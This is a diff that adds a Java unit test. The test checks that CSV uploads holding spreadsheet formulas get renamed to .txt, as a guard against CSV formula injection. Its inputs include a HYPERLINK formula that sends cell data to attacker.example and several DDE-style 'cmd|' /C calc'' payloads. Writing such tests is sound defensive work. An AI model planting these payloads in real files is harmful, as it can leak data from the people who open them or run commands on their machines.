@@ -42,4 +42,30 @@ class DocumentNamesTest {
     assertThat(split).hasSizeLessThanOrEqualTo(200).endsWith(".txt");
     assertThat(split.codePoints().noneMatch(c -> Character.getType(c) == Character.SURROGATE)).as("no half character").isTrue();
   }
+
+  /**
+   * A CSV whose cells a spreadsheet would run as formulas is named as text: opened from the
+   * reviewer's downloads, {@code =HYPERLINK(...)} or {@code -2+3+cmd|...} ran in the spreadsheet.
+   * Numbers, negative ones too, and text keep the CSV its name.
+   */
+  @Test
+  void aCsvHoldingAFormulaIsNamedAsText() {
+    assertThat(named("results.csv", "model,score\nWile,=HYPERLINK(\"https://attacker.example/?\"&A1,\"details\")"))
+        .isEqualTo("results.csv.txt");
+    assertThat(named("r.CSV", "a;b\r\n1;@SUM(1+1)*cmd|' /C calc'!A0")).as("semicolons, @, upper case").isEqualTo("r.CSV.txt");
+    assertThat(named("r.csv", "a,b\n1,\"=1+1\"")).as("quoted").isEqualTo("r.csv.txt");
+    assertThat(named("r.csv", "a\tb\n1\t \t=1+1")).as("tab-separated, blanks before").isEqualTo("r.csv.txt");
+    assertThat(named("r.csv", "a,b\n1,-2+3+cmd|' /C calc'!A0")).as("a sum after a sign").isEqualTo("r.csv.txt");
+    assertThat(named("r.csv", "a,b\n1,+1+1")).isEqualTo("r.csv.txt");
+    assertThat(named("scores.csv", "model,score,delta\nWile,-5,+3.5\nRoad,1e3,-1.5e-2\nX,-12%,\"-7\"\n-,n/a,"))
+        .as("numbers and text").isEqualTo("scores.csv");
+    assertThat(named("notes.txt", "=1+1")).as("not named as CSV").isEqualTo("notes.txt");
+    assertThat(Documents.named("card.csv", "application/pdf", "=1+1".getBytes(java.nio.charset.StandardCharsets.UTF_8)))
+        .as("not text").isEqualTo("card.csv");
+    assertThat(named("x".repeat(196) + ".csv", "=1")).hasSizeLessThanOrEqualTo(200).endsWith(".txt");
+  }
+
+  private static String named(String name, String content) {
+    return Documents.named(name, "text/plain", content.getBytes(java.nio.charset.StandardCharsets.UTF_8));
+  }
 }
